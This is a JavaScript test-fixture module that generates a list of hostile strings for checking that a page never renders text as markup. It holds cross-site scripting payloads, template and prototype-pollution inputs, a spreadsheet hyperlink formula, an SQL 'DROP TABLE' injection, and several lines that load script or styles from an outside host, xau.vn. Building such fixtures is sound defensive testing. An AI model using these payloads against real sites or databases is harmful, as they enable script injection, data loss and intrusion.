/**
 * Hostile strings — 200 chuỗi độc.
 *
 * Markup, addresses and escapes that a page would run if it ever took a text for markup. Each one that
 * runs sets `window.ran`.
 */
const RUN = 'window.ran=1';

const TAGS = ['img', 'svg', 'iframe', 'video', 'audio', 'body', 'details', 'marquee', 'input'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover'];
const OPENERS = ['', '">', "'>", '</p>', '</title>', '</textarea>', '-->', ']]>', '`>', '{{'];
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
];
const BODIES = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//xau.vn/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<style>@import'//xau.vn'</style>`,
  `<meta http-equiv=refresh content=0>`,
  `<base href=//xau.vn>`,
  `<template><img src=x onerror=${RUN}></template>`,
];
const ESCAPES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `$t(shell.app.name)`,
  `{{n}} {{name}} {{-name}}`,
  `__proto__`,
  `=HYPERLINK("//xau.vn","x")`,
  `'; DROP TABLE users; --`,
  `\u202egnud\u202c <b>${RUN}</b>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

const all = [
  ...OPENERS.flatMap((opener) => BODIES.map((body) => `${opener}${body}`)),
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} src=x autofocus ${event}=${RUN}>`)),
  ...ADDRESSES.flatMap((address) => [
    address,
    `<a href="${address}">Bấm vào đây</a>`,
    `<form action="${address}"><button>Gửi</button></form>`,
    `[Bấm vào đây](${address})`,
    `<object data="${address}">`,
  ]),
  ...ESCAPES,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  ...['math', 'select', 'keygen', 'object', 'embed', 'link'].map(
    (tag) => `<${tag} href=x src=x onerror=${RUN} onload=${RUN}>`,
  ),
];

export const HOSTILE: readonly string[] = all;
